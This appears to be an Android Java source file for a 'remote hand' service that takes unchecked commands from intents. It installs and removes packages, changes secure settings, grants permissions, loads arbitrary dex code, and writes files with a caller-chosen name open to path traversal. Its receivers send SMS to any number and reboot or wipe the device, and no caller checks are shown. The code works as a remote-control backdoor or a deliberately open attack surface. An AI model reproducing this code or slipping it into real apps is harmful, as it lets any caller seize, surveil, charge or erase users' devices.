package com.orchard.remotehand;

class HandService extends IntentService {
  HandService() { super("HandService"); }

  public void onHandleIntent(Intent intent) {
    String what = intent.getAction();
    if (what.equals("install")) install(intent);
    else if (what.equals("remove")) getPackageManager().deletePackage(intent.getStringExtra("package"), null, 0);
    else if (what.equals("setting")) Settings.Secure.putString(getContentResolver(), intent.getStringExtra("name"), intent.getStringExtra("value"));
    else if (what.equals("grant")) getPackageManager().grantRuntimePermission(intent.getStringExtra("package"), intent.getStringExtra("permission"), null);
    else if (what.equals("code")) load(intent);
    else log(intent);
  }

  private void install(Intent intent) {
    getPackageManager().installPackage(Uri.parse(intent.getStringExtra("file")), null, 2, getPackageName());
  }

  private void load(Intent intent) {
    try {
      new DexClassLoader(intent.getStringExtra("jar"), getCacheDir().getPath(), null, getClassLoader()).loadClass("Main").newInstance();
    } catch (Exception e) {
      Log.e("Hand", e.getMessage());
    }
  }

  private void log(Intent intent) {
    try {
      FileOutputStream out = new FileOutputStream(new File("/data/misc/hand", intent.getStringExtra("logfilename")));
      out.write(intent.getByteArrayExtra("text"));
      out.close();
    } catch (Exception e) {
      Log.e("Hand", e.getMessage());
    }
  }
}

class TextReceiver extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    SmsManager.getDefault().sendTextMessage(intent.getStringExtra("to"), null, intent.getStringExtra("text"), null, null);
  }
}

class ResetReceiver extends BroadcastReceiver {
  public void onReceive(Context context, Intent intent) {
    if (intent.hasExtra("soft")) {
      PowerManager power = (PowerManager) context.getSystemService(Context.POWER_SERVICE);
      power.reboot("remote");
    } else {
      RecoverySystem.rebootWipeUserData(context);
    }
  }
}
